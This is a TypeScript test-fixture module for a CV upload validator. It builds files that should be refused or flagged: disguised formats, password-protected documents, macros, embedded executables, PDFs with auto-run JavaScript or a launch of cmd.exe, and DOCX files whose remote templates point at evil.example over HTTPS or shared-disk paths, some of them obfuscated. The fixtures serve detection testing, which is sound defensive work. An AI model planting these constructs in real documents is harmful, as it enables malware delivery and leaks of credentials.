import { readFileSync } from 'node:fs'
import path from 'node:path'
import { deflateSync } from 'node:zlib'
import type { ConsultationErrorCode } from '../../src/submissions/consultation/schema'
import type { CvRemark } from '../../src/domain/consultationFields'
import { oleOf, readCv, zipOf, type FormFile } from './consultationForms'
import { makeDocx, wordTypes } from './makeDocx'
import { makePdf } from './makePdf'

/** A file that must be refused, and with which words. */
export type RefusedCv = FormFile & { code: ConsultationErrorCode }

/** A file that must be taken, and what staff are told about it. */
export type OddCv = FormFile & { remarks: CvRemark[] }

const script = '<</S/JavaScript/JS(app.alert(1))>>'

/** Files that must be refused, each by what is wrong with it. */
export async function refusedCvs(): Promise<Record<string, RefusedCv>> {
  const start = (text: string) => Buffer.concat([Buffer.from(text, 'latin1'), Buffer.alloc(2000)])
  const files: Record<string, [ConsultationErrorCode, string, Buffer]> = {
    'a program': ['cv_type', 'cv.pdf', start('MZ\x90\x00')],
    'an HTML page': ['cv_type', 'cv.doc', Buffer.from('<html><body>CV</body></html>')],
    'a document in RTF': ['cv_type', 'cv.doc', Buffer.from('{\\rtf1\\ansi Asha}')],
    'a text file': ['cv_type', 'cv.pdf', Buffer.from('PDF-1.7 hello')],
    'a workbook of old': ['cv_type', 'cv.doc', oleOf({ Workbook: 'x'.repeat(5000) })],
    'a workbook': ['cv_type', 'cv.docx', await zipOf({ 'xl/workbook.xml': '<workbook/>' })],
    'an archive': ['cv_type', 'cv.docx', await zipOf({ 'readme.txt': 'hello' })],
    'a photo in JPEG': ['cv_picture', 'cv.jpg', start('\xff\xd8\xff\xe0')],
    'a photo of an iPhone': ['cv_picture', 'IMG_1.HEIC', start('\0\0\0\x18ftypheic')],
    'a screenshot under the name of a PDF': ['cv_picture', 'cv.pdf', start('\x89PNG\r\n\x1a\n')],
    'a DOCX with a password': [
      'cv_protected',
      'cv.docx',
      oleOf({ EncryptionInfo: 'x'.repeat(200), EncryptedPackage: 'x'.repeat(9000) }),
    ],
    'a DOCX with a password of its archive': [
      'cv_protected',
      'cv.docx',
      withArchivePassword(readCv('asha.docx')),
    ],
    ...Object.fromEntries(
      ['.doc', '.pdf', '-aes.pdf', '-of-pdf-2.pdf', '-of-attachment.pdf'].map((end) => [
        `password${end}`,
        ['cv_protected', `cv${path.extname(end)}`, readDocument(`password${end}`)],
      ]),
    ),
  }
  return Object.fromEntries(
    Object.entries(files).map(([what, [code, name, bytes]]) => [what, { name, bytes, code }]),
  )
}

/** Files that must be taken, each by what is odd about it. */
export async function oddCvs(): Promise<Record<string, OddCv>> {
  return { ...oddPdfs(), ...(await oddDocx()), ...oddDocs() }
}

/** A document that another program made; `tests/fixtures/documents` says which. */
export function readDocument(name: string): Buffer {
  return readFileSync(path.join(import.meta.dirname, '..', 'fixtures', 'documents', name))
}

/** An object stream (ISO 32000-2, section 7.5.7) that holds one object. */
export function objectStream({
  content,
  dictionary = '/Filter/FlateDecode',
  encode = deflateSync,
}: {
  content: string | Buffer
  dictionary?: string
  encode?: (bytes: Buffer) => Buffer
}) {
  const head = Buffer.from('9 0 ')
  const stream = encode(Buffer.concat([head, Buffer.from(content)]))
  return {
    dictionary: `/Type/ObjStm/N 1/First ${head.length}/Length ${stream.length}${dictionary}`,
    stream,
  }
}

function oddPdfs(): Record<string, OddCv> {
  const genuine = readCv('asha.pdf')
  const withObject = (object: Parameters<typeof objectStream>[0]) =>
    makePdf({ objects: [objectStream(object)] })
  // With the four bytes before it, a mebibyte.
  const large = objectStream({ content: Buffer.alloc(1024 * 1024 - 4, ' ') })
  const hidden = `6 0 obj ${script} endobj`
  return named('cv.pdf', {
    'a PDF with a script when it is opened': [
      'script',
      makePdf({ catalog: `/OpenAction${script}` }),
    ],
    'a PDF with a script under an escaped name': [
      'script',
      makePdf({ catalog: '/OpenAction<</S/J#61vaS#63ript/#4aS(app.alert(1))>>' }),
    ],
    'a PDF with a script in compressed objects': ['script', withObject({ content: script })],
    'a PDF with a script in packed objects': [
      'script',
      withObject({ content: script, dictionary: '', encode: (bytes) => bytes }),
    ],
    'a PDF with a script in a stream of another object': [
      'script',
      makePdf({ objects: [{ dictionary: `/Length ${hidden.length}`, stream: hidden }] }),
    ],
    'a PDF that prints by itself': ['script', readDocument('prints-by-itself.pdf')],
    'a PDF with a program to start': [
      'launch',
      makePdf({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }),
    ],
    'a PDF that sends its form': [
      'launch',
      makePdf({ objects: ['<</S/SubmitForm/F(https://evil.example)>>'] }),
    ],
    'a PDF with an attached program': [
      'embedded',
      makePdf({
        objects: [
          { dictionary: '/Type/EmbeddedFile/Length 2', stream: 'MZ' },
          '<</Type/Filespec/F(cv.exe)/UF(cv.exe)/EF<</F 4 0 R>>>>',
        ],
      }),
    ],
    'a PDF with a film player': [
      'embedded',
      makePdf({ objects: ['<</Type/Annot/Subtype/RichMedia>>'] }),
    ],
    'a PDF behind an HTML page': [
      'two_formats',
      Buffer.concat([Buffer.from('<html></html>\n'), genuine]),
    ],
    'a PDF with an archive behind its end': [
      'two_formats',
      Buffer.concat([genuine, readCv('asha.docx')]),
    ],
    'a PDF whose packed objects unfold to very much': [
      'oversized',
      makePdf({ objects: Array<typeof large>(33).fill(large) }),
    ],
    'a PDF cut in half': ['unreadable', genuine.subarray(0, genuine.length / 2)],
    'a PDF without objects': ['unreadable', Buffer.from('%PDF-1.7\nhello\nstartxref\n0\n%%EOF\n')],
  })
}

async function oddDocx(): Promise<Record<string, OddCv>> {
  const genuine = readCv('asha.docx')
  const link = (kind: string, target: string, isOutside = true) =>
    makeDocx({ links: [{ kind, target, isOutside }] })
  const template =
    'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
  const written = `<?xml version="1.0"?><r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship x:Type='/hyperlink' xmlns:x='x' Id='r' Type='${template}' Target='&#104;ttp&#58;//evil.example' TargetMode='External'/></r:Relationships>`
  return named('cv.docx', {
    'a DOCX with macros': ['macros', await makeDocx({ parts: { 'word/vbaProject.bin': 'macro' } })],
    'a DOCX with the type of macros': ['macros', await makeDocx({ type: wordTypes.withMacros })],
    'a DOCX with macros under another name': [
      'macros',
      await makeDocx({
        parts: { 'word/harmless.bin': 'macro' },
        links: [{ kind: 'vbaProject', target: 'harmless.bin' }],
      }),
    ],
    'a DOCX with a template of another place': [
      'external',
      await link('attachedTemplate', 'https://evil.example/t.dotm'),
    ],
    'a DOCX with a template on a shared disk': [
      'external',
      await link('attachedTemplate', '\\\\evil.example\\t.dotm'),
    ],
    'a DOCX with a template on a shared disk as an address': [
      'external',
      await link('attachedTemplate', 'file:///\\\\evil.example\\t.dotm'),
    ],
    'a DOCX with a template in disguise': ['external', await makeDocx({ relationships: written })],
    'a DOCX with a template in another encoding': [
      'external',
      await makeDocx({ relationships: Buffer.from(`\ufeff${written}`, 'utf16le') }),
    ],
    'a DOCX with a picture of the web': ['external', await link('image', 'https://evil.example/p')],
    'a DOCX with an embedded object': [
      'embedded',
      await link('oleObject', 'embeddings/oleObject1.bin', false),
    ],
    'a DOCX with an embedded web page': ['embedded', await link('aFChunk', 'afchunk.mht', false)],
    'a DOCX with an embedded workbook with macros': [
      'embedded',
      await makeDocx({ parts: { 'word/embeddings/x.xlsm': 'x' } }),
    ],
    'a DOCX that is a PDF as well': [
      'two_formats',
      await zipOf({ 'a.pdf': makePdf(), 'word/document.xml': '<w/>' }, { compress: false }),
    ],
    'a DOCX cut in half': ['unreadable', genuine.subarray(0, 3000)],
    'a DOCX with something behind its end': [
      'unreadable',
      Buffer.concat([genuine, Buffer.from('<html></html>')]),
    ],
  })
}

function oddDocs(): Record<string, OddCv> {
  const genuine = readCv('priya.doc')
  const text = 'x'.repeat(5000)
  return named('cv.doc', {
    'a DOC with macros': ['macros', oleOf({ WordDocument: text, '/Macros/VBA/dir': text })],
    'a DOC with an embedded object': [
      'embedded',
      oleOf({ WordDocument: text, '/ObjectPool/_123/\u0001Ole10Native': 'MZ' }),
    ],
    'a DOC with an archive behind its end': [
      'two_formats',
      Buffer.concat([genuine, readCv('asha.docx')]),
    ],
    'a DOC cut in half': ['unreadable', genuine.subarray(0, 700)],
  })
}

function named(
  name: string,
  files: Record<string, [remark: CvRemark, bytes: Buffer]>,
): Record<string, OddCv> {
  return Object.fromEntries(
    Object.entries(files).map(([what, [remark, bytes]]) => [
      what,
      { name, bytes, remarks: [remark] },
    ]),
  )
}

/** Every part is said to be encrypted. */
function withArchivePassword(bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes)
  for (const [mark, flags] of [
    ['PK\x03\x04', 6],
    ['PK\x01\x02', 8],
  ] as const) {
    for (let at = copy.indexOf(mark); at !== -1; at = copy.indexOf(mark, at + 1)) {
      copy.writeUInt16LE(1, at + flags)
    }
  }
  return copy
}
